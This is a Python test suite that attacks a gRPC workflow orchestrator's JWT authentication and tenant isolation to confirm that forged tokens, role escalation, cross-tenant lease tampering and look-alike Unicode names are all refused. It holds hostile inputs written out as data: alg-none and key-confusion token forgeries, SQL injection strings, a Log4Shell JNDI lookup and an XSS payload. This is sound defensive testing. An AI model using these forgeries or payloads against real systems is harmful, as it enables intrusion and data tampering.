"""Security suite with real clients (grpcio) against real orchestratord processes with JWT
authentication: missing and broken tokens, algorithm confusion, key ids, roles, tenants, hostile
strings and oversized input. Tokens are minted (and forged) here with PyJWT and hmac, never with
the server's own code. Every refused call is checked against the database: no row, event or
state may change (security_support.snapshot)."""

from __future__ import annotations

import json
import os
import time
import uuid

import grpc
import pytest

from procs import psql
from security_support import (AUDIENCE, ISSUER, LeaseStream, SecureOrchestratord, assert_unchanged, bearer, claims,
                              forge, mint, oct_jwk, random_secret, rsa_jwk, rsa_keypair, snapshot, write_secret)

UNAUTHENTICATED = grpc.StatusCode.UNAUTHENTICATED
PERMISSION_DENIED = grpc.StatusCode.PERMISSION_DENIED
NOT_FOUND = grpc.StatusCode.NOT_FOUND


# -- servers and keys --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    folder = tmp_path_factory.mktemp("keys")
    keys = {
        "hs": write_secret(folder / "hs.secret", random_secret()),
        "other": os.urandom(48),
        "k1": os.urandom(48),
    }
    keys["rsa_private"], keys["rsa_public"] = rsa_keypair(folder, "server")
    keys["k2_private"], keys["k2_public"] = rsa_keypair(folder, "k2")
    jwks = {"keys": [oct_jwk(keys["k1"], "k1"), rsa_jwk(keys["k2_public"], "k2")]}
    keys["jwks"] = folder / "jwks.json"
    keys["jwks"].write_text(json.dumps(jwks))
    return keys


def _start(database, tmp_path_factory, name, args):
    # A long lease TTL: no lease lapses (and no reaper write) while a test compares snapshots.
    return SecureOrchestratord(database, tmp_path_factory.mktemp(name), args, lease_ttl=600, heartbeat=60).start()


@pytest.fixture(scope="module")
def hs_server(database, keys, tmp_path_factory):
    server = _start(database, tmp_path_factory, "hs",
                    ["--jwt-key-file", keys["hs"], "--jwt-issuer", ISSUER, "--jwt-audience", AUDIENCE])
    yield server
    server.stop()


@pytest.fixture(scope="module")
def rsa_server(database, keys, tmp_path_factory):
    server = _start(database, tmp_path_factory, "rsa", ["--jwt-key-file", keys["rsa_public"]])
    yield server
    server.stop()


@pytest.fixture(scope="module")
def jwks_server(database, keys, tmp_path_factory):
    server = _start(database, tmp_path_factory, "jwks", ["--jwks-file", keys["jwks"]])
    yield server
    server.stop()


class Client:
    """grpcio stubs on one channel, every call with an explicit token (or none)."""

    def __init__(self, server, pb):
        self.pb = pb
        self.channel = grpc.insecure_channel(server.address, options=[("grpc.max_send_message_length", 64 << 20),
                                                                      ("grpc.max_receive_message_length", 64 << 20)])
        grpc.channel_ready_future(self.channel).result(timeout=30)
        self.workflows = pb.workflows_grpc.WorkflowsStub(self.channel)
        self.executors = pb.executors_grpc.ExecutorsStub(self.channel)

    def call(self, method: str, request, token: str | None, timeout: float = 20, metadata=()):
        stub = self.workflows if hasattr(self.workflows, method) else self.executors
        return getattr(stub, method)(request, metadata=bearer(token) + list(metadata), timeout=timeout)

    def close(self):
        self.channel.close()


@pytest.fixture(scope="module")
def hs(hs_server, pb):
    client = Client(hs_server, pb)
    yield client
    client.close()


def hs_token(keys, role: str, tenant: str, sub: str | None = None, **extra) -> str:
    return mint(claims(sub or f"{role}-{tenant}", role, tenant, **extra), keys["hs"].read_bytes())


def expect_status(code, fn, contains: str | None = None):
    with pytest.raises(grpc.RpcError) as caught:
        result = fn()
        # A streaming call only fails when read.
        if hasattr(result, "__iter__") and not isinstance(result, (str, bytes)):
            for _ in result:
                pass
    error = caught.value
    assert error.code() == code, f"expected {code}, got {error.code()}: {error.details()}"
    if contains:
        assert contains in (error.details() or ""), error.details()
    return error


def refused(database, code, fn, what: str, contains: str | None = None):
    """The call fails with `code` and the database is exactly as before."""
    return Guard(database).refused(code, fn, what, contains)


class Guard:
    """A series of calls that must all be refused: one snapshot before, one check after each call
    (nothing may change, so each call's "after" must equal the first "before")."""

    def __init__(self, database):
        self.database = database
        self.before = snapshot(database)

    def refused(self, code, fn, what: str, contains: str | None = None):
        error = expect_status(code, fn, contains)
        assert_unchanged(self.database, self.before, what)
        return error


# -- the world the tests attack ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def world(hs, keys, pb, database):
    """Tenant t1's workflow W1 (two chained tasks), task `a` leased to t1's executor (a held
    lease to attack), and tenant t2's own workflow."""
    cap = "cap-t1-" + uuid.uuid4().hex[:6]
    t1_submitter = hs_token(keys, "submitter", "t1", sub="alice@t1")
    query = pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="a", required_capabilities=[cap]),
        pb.dag.TaskSpec(key="b", required_capabilities=[cap], depends_on=["a"])]))
    w1 = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(request_id="w1-" + cap, query=query), t1_submitter).workflow
    t1_executor = hs_token(keys, "executor", "t1", sub="worker@t1")
    polled = hs.call("PollTasks", pb.executors.PollTasksRequest(executor_id="e1", capabilities=[cap], max_tasks=1, wait_ms=5000),
                     t1_executor)
    assert len(polled.assignments) == 1 and polled.assignments[0].workflow_id == w1.workflow_id
    t2_submitter = hs_token(keys, "submitter", "t2", sub="bob@t2")
    w2 = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="z", required_capabilities=["cap-t2-" + cap])]))), t2_submitter).workflow
    return {"cap": cap, "w1": w1, "w2": w2, "lease": polled.assignments[0].lease, "request_id": "w1-" + cap}


def mutating_calls(pb, world):
    """One request for every method that changes state (and the reads), against W1."""
    w1 = world["w1"].workflow_id
    lease = world["lease"]
    query = pb.query.Query(graph=pb.dag.Dag(tasks=[pb.dag.TaskSpec(key="evil", required_capabilities=[world["cap"]])]))
    return {
        "SubmitQuery": pb.workflows.SubmitQueryRequest(query=query),
        "UpdateDag": pb.workflows.UpdateDagRequest(workflow_id=w1, expected_version=1,
                                                   add_tasks=[pb.dag.TaskSpec(key="c", depends_on=["b"])], reason="evil"),
        "CancelWorkflow": pb.workflows.CancelWorkflowRequest(workflow_id=w1, reason="evil"),
        "PollTasks": pb.executors.PollTasksRequest(executor_id="e1", capabilities=[world["cap"]], max_tasks=5),
        "ReportStatus": pb.executors.ReportStatusRequest(
            executor_id="e1", completion=pb.executors.TaskCompletion(lease=lease, result=b"forged")),
        "Heartbeat": pb.executors.HeartbeatRequest(executor_id="e1", leases=[lease]),
    }


def read_calls(pb, world):
    w1 = world["w1"].workflow_id
    return {
        "GetWorkflow": pb.workflows.GetWorkflowRequest(workflow_id=w1, include_tasks=True),
        "GetDag": pb.workflows.GetDagRequest(workflow_id=w1),
        "ListWorkflows": pb.workflows.ListWorkflowsRequest(),
        "ListEvents": pb.workflows.ListEventsRequest(workflow_id=w1),
        "ListTasks": pb.workflows.ListTasksRequest(workflow_id=w1),
    }


# -- authentication ------------------------------------------------------------------------------------


@pytest.mark.parametrize("header", [None, "Basic YWxpY2U6c2VjcmV0", "Bearer", "Bearer ", "Bearer not-a-jwt", "Bearer a.b.c",
                                    "Bearer e30.e30.", "Token abc"])
def test_missing_or_malformed_authorization_is_unauthenticated(hs, pb, world, database, header):
    metadata = [] if header is None else [("authorization", header)]
    # A field value ending in whitespace is a malformed HTTP/2 request (RFC 9113 §8.2.1): nghttp2
    # resets the stream (PROTOCOL_ERROR, which grpcio reports as INTERNAL) before any handler runs.
    code = grpc.StatusCode.INTERNAL if header and header != header.strip() else UNAUTHENTICATED
    guard = Guard(database)
    for method, request in {**mutating_calls(pb, world), **read_calls(pb, world)}.items():
        guard.refused(code, lambda: hs.call(method, request, None, metadata=metadata), f"{method} with {header!r}")


def test_streams_without_token_are_unauthenticated(hs, pb, world, database):
    submit = pb.workflows.SubmitStreamRequest(request_id="s1", query=pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="s", required_capabilities=[world["cap"]])])))
    refused(database, UNAUTHENTICATED, lambda: hs.workflows.SubmitStream(iter([submit]), timeout=20), "SubmitStream")
    refused(database, UNAUTHENTICATED,
            lambda: hs.workflows.WatchWorkflow(pb.workflows.WatchWorkflowRequest(workflow_id=world["w1"].workflow_id),
                                               timeout=20), "WatchWorkflow")
    hello = pb.executors.LeaseRequest(hello=pb.executors.ExecutorHello(executor_id="e9", capabilities=[world["cap"]],
                                                                       resume=[world["lease"]]))
    refused(database, UNAUTHENTICATED, lambda: hs.executors.Lease(iter([hello]), timeout=20), "Lease")


def invalid_tokens(keys) -> dict[str, str]:
    """Tokens that must all be refused by the HS256 server (which requires ISSUER and AUDIENCE)."""
    secret = keys["hs"].read_bytes()
    admin = claims("mallory", "admin", "*")
    now = int(time.time())
    viewer = mint(claims("mallory", "viewer", "t1"), secret)
    head, _, signature = viewer.split(".")
    tampered_payload = forge({"alg": "HS256", "typ": "JWT"}, admin, None).split(".")[1]
    return {
        "bad signature": mint(admin, keys["other"]),
        "expired": mint({**admin, "exp": now - 3600, "iat": now - 7200}, secret),
        "not yet valid": mint({**admin, "nbf": now + 3600}, secret),
        "wrong audience": mint({**admin, "aud": "another-service"}, secret),
        "wrong issuer": mint({**admin, "iss": "https://evil.test"}, secret),
        "no audience": mint({k: v for k, v in admin.items() if k != "aud"}, secret),
        "no exp": mint({k: v for k, v in admin.items() if k != "exp"}, secret),
        "alg none": forge({"alg": "none", "typ": "JWT"}, admin, None),
        "alg None": forge({"alg": "None", "typ": "JWT"}, admin, None),
        "alg NONE with a signature": forge({"alg": "NONE"}, admin, secret),
        "alg HS512": mint(admin, secret, algorithm="HS512"),
        "payload swapped, signature kept": f"{head}.{tampered_payload}.{signature}",
        "signature stripped": f"{head}.{viewer.split('.')[1]}.",
        "tenant * for a submitter": mint(claims("mallory", "submitter", "*"), secret),
        "unknown role": mint(claims("mallory", "root", "t1"), secret),
        "no subject": mint({k: v for k, v in admin.items() if k != "sub"}, secret),
        "oversized": mint({**admin, "pad": "x" * 9000}, secret),
    }


INVALID_TOKEN_CASES = ["bad signature", "expired", "not yet valid", "wrong audience", "wrong issuer", "no audience",
                       "no exp", "alg none", "alg None", "alg NONE with a signature", "alg HS512",
                       "payload swapped, signature kept", "signature stripped", "tenant * for a submitter", "unknown role",
                       "no subject", "oversized"]


@pytest.mark.parametrize("case", INVALID_TOKEN_CASES)
def test_invalid_tokens_are_unauthenticated_and_change_nothing(hs, pb, world, database, keys, case):
    token = invalid_tokens(keys)[case]
    guard = Guard(database)
    for method, request in {**mutating_calls(pb, world), **read_calls(pb, world)}.items():
        guard.refused(UNAUTHENTICATED, lambda: hs.call(method, request, token), f"{method} with {case} token", "invalid token")


def test_valid_token_is_accepted(hs, pb, world, keys):
    """The positive control for the cases above: the same claims, correctly signed, work."""
    admin = mint(claims("root", "admin", "*"), keys["hs"].read_bytes())
    listed = hs.call("ListWorkflows", pb.workflows.ListWorkflowsRequest(page_size=1000), admin)
    assert world["w1"].workflow_id in {w.workflow_id for w in listed.workflows}


def test_hs256_signed_with_the_rsa_public_key_is_refused(rsa_server, pb, database, keys):
    client = Client(rsa_server, pb)
    try:
        body = claims("mallory", "admin", "*")
        pem = keys["rsa_public"].read_bytes()
        for key in (pem, pem.strip(), pem.replace(b"\n", b"")):
            token = forge({"alg": "HS256", "typ": "JWT"}, body, key)
            refused(database, UNAUTHENTICATED,
                    lambda: client.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=pb.query.Query(text="x")), token),
                    "HS256 keyed with the RSA public key", "invalid token")
            refused(database, UNAUTHENTICATED, lambda: client.call("ListWorkflows", pb.workflows.ListWorkflowsRequest(), token),
                    "HS256 keyed with the RSA public key (read)")
        refused(database, UNAUTHENTICATED,
                lambda: client.call("ListWorkflows", pb.workflows.ListWorkflowsRequest(), forge({"alg": "none"}, body, None)),
                "alg none on the RSA server")
        # Positive control: a real RS256 token signed with the private key.
        good = mint(body, keys["rsa_private"].read_bytes(), algorithm="RS256")
        client.call("ListWorkflows", pb.workflows.ListWorkflowsRequest(), good)
    finally:
        client.close()


def test_jwks_with_two_kids(jwks_server, pb, database, keys):
    client = Client(jwks_server, pb)
    try:
        body = claims("carol", "viewer", "t1")
        k2_private = keys["k2_private"].read_bytes()
        list_request = pb.workflows.ListWorkflowsRequest()
        # Each kid selects its own key and algorithm.
        client.call("ListWorkflows", list_request, mint(body, keys["k1"], kid="k1"))
        client.call("ListWorkflows", list_request, mint(body, k2_private, algorithm="RS256", kid="k2"))
        bad = {
            "kid k1 signed with k2's key": mint(body, k2_private, algorithm="RS256", kid="k1"),
            "kid k2 with HS256 keyed by k1": mint(body, keys["k1"], kid="k2"),
            "kid k2 with HS256 keyed by k2's public PEM": forge({"alg": "HS256", "kid": "k2"}, body,
                                                                keys["k2_public"].read_bytes()),
            "unknown kid": mint(body, keys["k1"], kid="k3"),
            "kid k1, wrong secret": mint(body, keys["other"], kid="k1"),
            "kid k1, alg none": forge({"alg": "none", "kid": "k1"}, body, None),
        }
        for name, token in bad.items():
            refused(database, UNAUTHENTICATED, lambda: client.call("ListWorkflows", list_request, token), name, "invalid token")
            refused(database, UNAUTHENTICATED,
                    lambda: client.call("CancelWorkflow", pb.workflows.CancelWorkflowRequest(workflow_id="wf_x"), token), name)
    finally:
        client.close()


# -- roles ---------------------------------------------------------------------------------------------

ESCALATIONS = [
    ("viewer", ["SubmitQuery", "UpdateDag", "CancelWorkflow", "PollTasks", "ReportStatus", "Heartbeat"]),
    ("executor", ["SubmitQuery", "UpdateDag", "CancelWorkflow", "GetWorkflow", "GetDag", "ListWorkflows", "ListEvents",
                  "ListTasks"]),
    ("submitter", ["PollTasks", "ReportStatus", "Heartbeat"]),
]


@pytest.mark.parametrize("role,methods", ESCALATIONS, ids=[r for r, _ in ESCALATIONS])
def test_role_escalation_is_permission_denied(hs, pb, world, database, keys, role, methods):
    token = hs_token(keys, role, "t1")
    calls = {**mutating_calls(pb, world), **read_calls(pb, world)}
    guard = Guard(database)
    for method in methods:
        guard.refused(PERMISSION_DENIED, lambda: hs.call(method, calls[method], token), f"{role} calling {method}",
                      f"role {role} may not call")


def test_viewer_cannot_open_streams_that_write(hs, pb, world, database, keys):
    viewer = hs_token(keys, "viewer", "t1")
    submit = pb.workflows.SubmitStreamRequest(request_id="v1", query=pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="s", required_capabilities=[world["cap"]])])))
    refused(database, PERMISSION_DENIED, lambda: hs.workflows.SubmitStream(iter([submit]), metadata=bearer(viewer), timeout=20),
            "viewer SubmitStream")
    hello = pb.executors.LeaseRequest(hello=pb.executors.ExecutorHello(executor_id="e1", capabilities=[world["cap"]],
                                                                       resume=[world["lease"]]))
    for role in ("viewer", "submitter"):
        token = hs_token(keys, role, "t1")
        refused(database, PERMISSION_DENIED, lambda: hs.executors.Lease(iter([hello]), metadata=bearer(token), timeout=20),
                f"{role} Lease")


def test_viewer_reads_its_tenant(hs, pb, world, keys):
    viewer = hs_token(keys, "viewer", "t1")
    w1 = world["w1"].workflow_id
    assert hs.call("GetWorkflow", pb.workflows.GetWorkflowRequest(workflow_id=w1), viewer).workflow.workflow_id == w1
    events = hs.call("ListEvents", pb.workflows.ListEventsRequest(workflow_id=w1), viewer).events
    assert events and all(e.workflow_id == w1 for e in events)


# -- tenants ---------------------------------------------------------------------------------------------


def test_cross_tenant_reads_writes_and_watches_are_not_found(hs, pb, world, database, keys):
    w1 = world["w1"].workflow_id
    for role in ("viewer", "submitter", "admin"):
        token = hs_token(keys, role, "t2")
        for method, request in read_calls(pb, world).items():
            if method == "ListWorkflows":
                listed = hs.call(method, pb.workflows.ListWorkflowsRequest(page_size=1000), token).workflows
                assert w1 not in {w.workflow_id for w in listed} and all(w.tenant == "t2" for w in listed)
                continue
            refused(database, NOT_FOUND, lambda: hs.call(method, request, token), f"t2 {role} {method}(W1)")
        refused(database, NOT_FOUND,
                lambda: hs.workflows.WatchWorkflow(pb.workflows.WatchWorkflowRequest(workflow_id=w1), metadata=bearer(token),
                                                   timeout=20), f"t2 {role} WatchWorkflow(W1)")
        events = hs.call("ListEvents", pb.workflows.ListEventsRequest(page_size=1000), token).events
        assert events and all(e.workflow_id != w1 for e in events)
        refused(database, PERMISSION_DENIED, lambda: hs.call("ListEvents", pb.workflows.ListEventsRequest(tenant="t1"), token),
                f"t2 {role} ListEvents(tenant t1)")
        if role != "viewer":
            calls = mutating_calls(pb, world)
            for method in ("UpdateDag", "CancelWorkflow"):
                refused(database, NOT_FOUND, lambda: hs.call(method, calls[method], token), f"t2 {role} {method}(W1)")
    assert hs.call("GetWorkflow", pb.workflows.GetWorkflowRequest(workflow_id=w1), hs_token(keys, "admin", "*")).workflow.state \
        == pb.workflow.WorkflowState.Value("WORKFLOW_STATE_RUNNING")


def test_cross_tenant_watch_of_everything_shows_only_own_tenant(hs, pb, world, keys):
    token = hs_token(keys, "viewer", "t2")
    stream = hs.workflows.WatchWorkflow(pb.workflows.WatchWorkflowRequest(), metadata=bearer(token), timeout=3)
    seen = []
    with pytest.raises(grpc.RpcError) as ended:
        for event in stream:
            seen.append(event.workflow_id)
    assert ended.value.code() == grpc.StatusCode.DEADLINE_EXCEEDED
    assert world["w2"].workflow_id in seen and world["w1"].workflow_id not in seen


def test_idempotency_keys_are_per_tenant(hs, pb, world, keys):
    """t2 reusing t1's request id gets its own new workflow, never t1's."""
    token = hs_token(keys, "submitter", "t2")
    response = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(
        request_id=world["request_id"], query=pb.query.Query(graph=pb.dag.Dag(tasks=[
            pb.dag.TaskSpec(key="q", required_capabilities=["cap-idem-" + world["cap"]])]))), token)
    assert response.created and response.workflow.workflow_id != world["w1"].workflow_id and response.workflow.tenant == "t2"


def resume_is_rejected(hs, pb, token, cap, lease, then_no_assignment=False):
    """A Lease stream under `token` listing `lease` in hello.resume gets it back as rejected."""
    stream = LeaseStream(hs.executors, pb, bearer(token), pb.executors.ExecutorHello(
        executor_id="e1", capabilities=[cap], max_in_flight=4, resume=[lease]))
    try:
        welcome = stream.next_of("welcome", 20)
        assert welcome is not None and not isinstance(welcome, tuple), welcome
        assert [t.task_id for t in welcome.rejected_resumes] == [lease.task_id] and not welcome.resumed
        if then_no_assignment:
            assert stream.next_of("assignment", 2.5) is None
    finally:
        stream.close()


def test_cross_tenant_leases_are_refused(hs, pb, world, database, keys):
    t2_executor = hs_token(keys, "executor", "t2", sub="worker@t2")
    cap, lease = world["cap"], world["lease"]
    # Polling for t1's capability: nothing, and nothing leased.
    before = snapshot(database)
    polled = hs.call("PollTasks", pb.executors.PollTasksRequest(executor_id="e1", capabilities=[cap], max_tasks=5, wait_ms=1500),
                     t2_executor)
    assert len(polled.assignments) == 0
    assert_unchanged(database, before, "t2 PollTasks for t1's capability")
    # Reporting on, heartbeating and resuming t1's lease, even with t1's executor id. The answer is
    # NOT_FOUND, as for a task that does not exist: "held by another executor … latest token 1"
    # confirmed the task and told its state (found by black-box testing).
    for what, report in [("completing", {"completion": pb.executors.TaskCompletion(lease=lease, result=b"forged")}),
                         ("failing", {"failure": pb.executors.TaskFailure(lease=lease, message="forged")}),
                         ("reporting progress on", {"progress": pb.executors.TaskProgress(lease=lease, fraction=0.5)})]:
        error = refused(database, grpc.StatusCode.NOT_FOUND, lambda: hs.call("ReportStatus", pb.executors.ReportStatusRequest(
            executor_id="e1", **report), t2_executor), f"t2 {what} t1's lease")
        assert error.details() == f"task {lease.task_id} not found", error.details()
    before = snapshot(database)
    beat = hs.call("Heartbeat", pb.executors.HeartbeatRequest(executor_id="e1", leases=[lease]), t2_executor)
    assert [s.valid for s in beat.leases] == [False]
    assert_unchanged(database, before, "t2 heartbeating t1's lease")
    before = snapshot(database)
    resume_is_rejected(hs, pb, t2_executor, cap, lease, then_no_assignment=True)
    assert_unchanged(database, before, "t2 Lease stream resuming t1's lease")
    # A token of tenant t2 with the very subject of t1's executor (subjects repeat across tenants:
    # "worker") is another identity: it used to heartbeat, resume and complete t1's lease.
    same_subject = hs_token(keys, "executor", "t2", sub="worker@t1")
    refused(database, grpc.StatusCode.NOT_FOUND, lambda: hs.call("ReportStatus", pb.executors.ReportStatusRequest(
        executor_id="e1", completion=pb.executors.TaskCompletion(lease=lease, result=b"forged")), same_subject),
        "t2's worker@t1 completing t1's worker@t1 lease")
    before = snapshot(database)
    beat = hs.call("Heartbeat", pb.executors.HeartbeatRequest(executor_id="e1", leases=[lease]), same_subject)
    assert [s.valid for s in beat.leases] == [False]
    resume_is_rejected(hs, pb, same_subject, cap, lease)
    assert_unchanged(database, before, "t2's worker@t1 heartbeating and resuming t1's lease")
    # The same executor identity of another tenant's subject cannot act for t1's executor either.
    other_t1 = hs_token(keys, "executor", "t1", sub="intruder@t1")
    refused(database, grpc.StatusCode.FAILED_PRECONDITION, lambda: hs.call("ReportStatus", pb.executors.ReportStatusRequest(
        executor_id="e1", completion=pb.executors.TaskCompletion(lease=lease, result=b"forged")), other_t1),
        "another t1 identity completing worker@t1's lease")


def test_a_multi_tenant_executor_token_is_an_identity_of_its_own(hs, pb, database, keys):
    """A token serving tenants t1 and t2 recorded its leases as `t1/sub/id`, the identity of a
    t1-only token with the same subject and executor id: that token could heartbeat, resume and
    fail the t2 tasks the multi-tenant one held, and the multi-tenant token t1's (found by
    black-box testing). The identity now names the whole grant: `t1,t2/sub/id`."""
    cap = "cap-multi-" + uuid.uuid4().hex[:6]
    multi = hs_token(keys, "executor", "t1", sub="shared", tenants=["t2", "t1"])
    single = hs_token(keys, "executor", "t1", sub="shared")

    def submit(tenant):
        submitter = hs_token(keys, "submitter", tenant, sub=f"alice@{tenant}")
        return hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[
            pb.dag.TaskSpec(key="g", required_capabilities=[cap])]))), submitter).workflow

    def poll(token):
        polled = hs.call("PollTasks", pb.executors.PollTasksRequest(
            executor_id="x1", capabilities=[cap], max_tasks=1, wait_ms=5000), token)
        assert len(polled.assignments) == 1
        return polled.assignments[0].lease

    def cannot_touch(token, lease, code, what):
        before = snapshot(database)
        beat = hs.call("Heartbeat", pb.executors.HeartbeatRequest(executor_id="x1", leases=[lease]), token)
        assert [s.valid for s in beat.leases] == [False], what
        assert_unchanged(database, before, what + ": heartbeat")
        refused(database, code, lambda: hs.call("ReportStatus", pb.executors.ReportStatusRequest(
            executor_id="x1", failure=pb.executors.TaskFailure(lease=lease, message="intruder", retryable=False)), token),
            what + ": failure report")
        resume_is_rejected(hs, pb, token, cap, lease)

    # t2's task, held by the multi-tenant token: the t1-only token does not serve t2 (NOT_FOUND).
    t2_workflow = submit("t2")
    t2_lease = poll(multi)
    cannot_touch(single, t2_lease, grpc.StatusCode.NOT_FOUND, "t1-only token on the t1,t2 token's t2 lease")
    done = hs.call("ReportStatus", pb.executors.ReportStatusRequest(
        executor_id="x1", completion=pb.executors.TaskCompletion(lease=t2_lease, result=b"ok")), multi)
    assert done.accepted
    # t1's task, held by the t1-only token: the multi-tenant token serves t1, but is not its holder.
    submit("t1")
    t1_lease = poll(single)
    cannot_touch(multi, t1_lease, grpc.StatusCode.FAILED_PRECONDITION, "t1,t2 token on the t1-only token's lease")
    viewer = hs_token(keys, "viewer", "t2")
    events = hs.call("ListEvents", pb.workflows.ListEventsRequest(workflow_id=t2_workflow.workflow_id, page_size=100),
                     viewer).events
    assert {e.executor_id for e in events if e.executor_id} == {"t1,t2/shared/x1"}


def test_subjects_and_executor_ids_with_slashes_are_distinct_identities(hs, pb, database, keys):
    """Subject "a/b" with executor "w1" and subject "a" with executor "b/w1" were both recorded as
    "a/b/w1": one could heartbeat and fail the other's leases (found by black-box testing)."""
    cap = "cap-slash-" + uuid.uuid4().hex[:6]
    submitter = hs_token(keys, "submitter", "t1", sub="alice@t1")
    workflow = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="g", required_capabilities=[cap])]))), submitter).workflow
    victim = hs_token(keys, "executor", "t1", sub="a/b")
    attacker = hs_token(keys, "executor", "t1", sub="a")
    polled = hs.call("PollTasks", pb.executors.PollTasksRequest(executor_id="w1", capabilities=[cap], max_tasks=1, wait_ms=5000),
                     victim)
    lease = polled.assignments[0].lease
    before = snapshot(database)
    beat = hs.call("Heartbeat", pb.executors.HeartbeatRequest(executor_id="b/w1", leases=[lease]), attacker)
    assert [s.valid for s in beat.leases] == [False]
    assert_unchanged(database, before, "subject a heartbeating subject a/b's lease")
    refused(database, grpc.StatusCode.FAILED_PRECONDITION, lambda: hs.call("ReportStatus", pb.executors.ReportStatusRequest(
        executor_id="b/w1", failure=pb.executors.TaskFailure(lease=lease, message="forged", retryable=False)), attacker),
        "subject a failing subject a/b's lease")
    # The holder itself still reports, and its recorded id keeps its subject's slash encoded.
    done = hs.call("ReportStatus", pb.executors.ReportStatusRequest(
        executor_id="w1", completion=pb.executors.TaskCompletion(lease=lease, result=b"ok")), victim)
    assert done.accepted
    viewer = hs_token(keys, "viewer", "t1")
    events = hs.call("ListEvents", pb.workflows.ListEventsRequest(workflow_id=workflow.workflow_id, page_size=100), viewer).events
    assert {e.executor_id for e in events if e.executor_id} == {"t1/a%2Fb/w1"}


@pytest.mark.parametrize("executor_id,message", [
    ("w1\n#999 forged line", "control characters"), ("w1\x1b[2K", "control characters"), ("w1\x7f", "control characters"),
    ("w1\u0085", "control characters"), ("w1\u202eevil", "control characters"), ("w1\u2028x", "control characters"),
    # Canonically equivalent to "wK1" for Swift's `==`, another id to PostgreSQL.
    ("w\u212a1", "must be in Unicode normalization form C (NFC)"), ("we\u03011", "must be in Unicode normalization form C (NFC)"),
    # Refused by the message decoder already, as in every string field.
    ("w1\x00", "contains the character U+0000 (NUL)")])
def test_executor_ids_with_control_characters_are_invalid(hs, pb, database, keys, executor_id, message):
    """A newline or escape sequence in an executor id forged lines in logs and in `orchctl events`
    (found by black-box testing); every executor call refuses it."""
    executor = hs_token(keys, "executor", "t1", sub="worker@t1")
    lease = pb.executors.LeaseToken(task_id=str(uuid.uuid4()), fencing_token=1)
    calls = {
        "PollTasks": pb.executors.PollTasksRequest(executor_id=executor_id, capabilities=["x"], max_tasks=1),
        "ReportStatus": pb.executors.ReportStatusRequest(executor_id=executor_id, completion=pb.executors.TaskCompletion(lease=lease)),
        "Heartbeat": pb.executors.HeartbeatRequest(executor_id=executor_id, leases=[lease]),
    }
    guard = Guard(database)
    for method, request in calls.items():
        guard.refused(grpc.StatusCode.INVALID_ARGUMENT, lambda: hs.call(method, request, executor), method, message)


def test_look_alike_tenant_and_subject_names_are_refused(hs, pb, database, keys):
    """Swift's `==` took tenant "\u212araft" (KELVIN SIGN) for "Kraft", PostgreSQL did not: its
    viewer read Kraft's whole audit trail with ListEvents(tenant="Kraft"), and an executor of it,
    or a subject "\u212aworker" beside "Kworker", failed Kraft's leased tasks (found by black-box
    testing). Names in tokens must be NFC; nothing of Kraft's is returned or changed."""
    cap = "cap-nfc-" + uuid.uuid4().hex[:6]
    victim = hs_token(keys, "submitter", "Kraft")
    workflow = hs.call("SubmitQuery", pb.workflows.SubmitQueryRequest(query=pb.query.Query(graph=pb.dag.Dag(tasks=[
        pb.dag.TaskSpec(key="secret", required_capabilities=[cap])]))), victim).workflow
    worker = hs_token(keys, "executor", "Kraft", sub="Kworker")
    polled = hs.call("PollTasks", pb.executors.PollTasksRequest(executor_id="w1", capabilities=[cap], max_tasks=1), worker)
    lease = polled.assignments[0].lease
    guard = Guard(database)
    look_alikes = [
        (hs_token(keys, "viewer", "\u212araft"), "ListEvents", pb.workflows.ListEventsRequest(tenant="Kraft", page_size=100)),
        (hs_token(keys, "executor", "\u212araft", sub="Kworker"), "ReportStatus", pb.executors.ReportStatusRequest(
            executor_id="w1", failure=pb.executors.TaskFailure(lease=lease, message="forged", retryable=False))),
        (hs_token(keys, "executor", "Kraft", sub="\u212aworker"), "ReportStatus", pb.executors.ReportStatusRequest(
            executor_id="w1", progress=pb.executors.TaskProgress(lease=lease, fraction=0.5, message="forged"))),
        (hs_token(keys, "viewer", "cafe\u0301"), "ListWorkflows", pb.workflows.ListWorkflowsRequest()),
    ]
    for token, method, request in look_alikes:
        guard.refused(grpc.StatusCode.UNAUTHENTICATED, lambda: hs.call(method, request, token), method,
                      "must be in Unicode normalization form C (NFC)")
    # A byte-different tenant named in a request is not the caller's own.
    expect_status(grpc.StatusCode.PERMISSION_DENIED, lambda: hs.call(
        "ListEvents", pb.workflows.ListEventsRequest(tenant="\u212araft"), hs_token(keys, "viewer", "Kraft")))
    viewer = hs_token(keys, "viewer", "Kraft")
    assert hs.call("GetWorkflow", pb.workflows.GetWorkflowRequest(workflow_id=workflow.workflow_id), viewer).workflow.state \
        == pb.workflow.WorkflowState.Value("WORKFLOW_STATE_RUNNING")


# -- hostile strings --------------------------------------------------------------------------------------

HOSTILE = [
    "'; DROP TABLE workflows; --",
    "\" OR \"1\"=\"1",
    "' OR 1=1 UNION SELECT id, tenant FROM workflows --",
    "$1 $2::text $$ $$; SELECT pg_sleep(10); $$",
    "%s %d %n %x %%",
    "{{7*7}} ${jndi:ldap://x.test/a} <script>alert(1)</script>",
    "\\x00 \\0 \\u0000 \\\\ \\' \\\"",
    "Ã¼Ã¶ â\u0080\u0099 \ufffd\ufffd \udbff\udfff".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\u202eevil\u202c \u200f\u200e \u2066rtl\u2069 \u0645\u0631\u062d\u0628\u0627",
    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 \U0010fffd \u2028\u2029",
    "tab\tnewline\ncarriage\rend",
    "-- /* unterminated comment",
    "x" * 20000,
]


def hex_of(text: str) -> str:
    return text.encode().hex()


def test_hostile_strings_are_stored_and_returned_verbatim(hs, pb, database, keys):
    nasty_sub = HOSTILE[0]
